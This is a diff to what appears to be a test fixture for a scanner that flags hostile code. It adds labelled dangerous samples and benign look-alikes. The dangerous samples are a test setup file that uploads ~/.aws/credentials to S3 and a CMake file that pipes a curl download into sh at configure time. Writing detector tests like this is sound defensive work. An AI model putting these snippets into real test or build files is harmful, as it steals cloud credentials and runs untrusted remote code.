@@ -205,6 +205,18 @@ DANGEROUS = {
         'ActionMailer::Base.mail(to: "ops@mail.example.net", body: body).deliver_now',
         "credential file",
     ),
+    "cloud keys joined from parts and uploaded": (
+        "test/globalSetup.js",
+        "const f = path.join(os.homedir(), '.aws', 'credentials');\n"
+        "await s3.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: fs.readFileSync(f) }));",
+        "credential file",
+    ),
+    "cmake pipes a download to a shell at configure time": (
+        "CMakeLists.txt",
+        "cmake_minimum_required(VERSION 3.20)\nproject(img)\n"
+        "execute_process(COMMAND curl -fsSL http://get.example.net/setup.sh COMMAND sh)",
+        "download",
+    ),
 }
 
 EVERYDAY = {
@@ -345,6 +357,17 @@ EVERYDAY = {
         "app/mailers/order_mailer.rb",
         "def confirmation(order)\n  @order = order\n"
         "  mail(to: order.email, subject: 'Your order').deliver_later\nend",
+    ),
+    "cmake runs git and doxygen": (
+        "CMakeLists.txt",
+        "cmake_minimum_required(VERSION 3.20)\nproject(img)\n"
+        "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V)\n"
+        "add_custom_target(docs COMMAND doxygen ${CMAKE_SOURCE_DIR}/Doxyfile VERBATIM)",
+    ),
+    "an upload of the build's report": (
+        "scripts/report.js",
+        "await s3.send(new PutObjectCommand({ Bucket: 'ci-reports', Key: 'r.html', "
+        "Body: fs.readFileSync('coverage/index.html') }));",
     ),
     "a migration's way back in its own file": (
         "db/migrations/20240612_add_notes.down.sql",
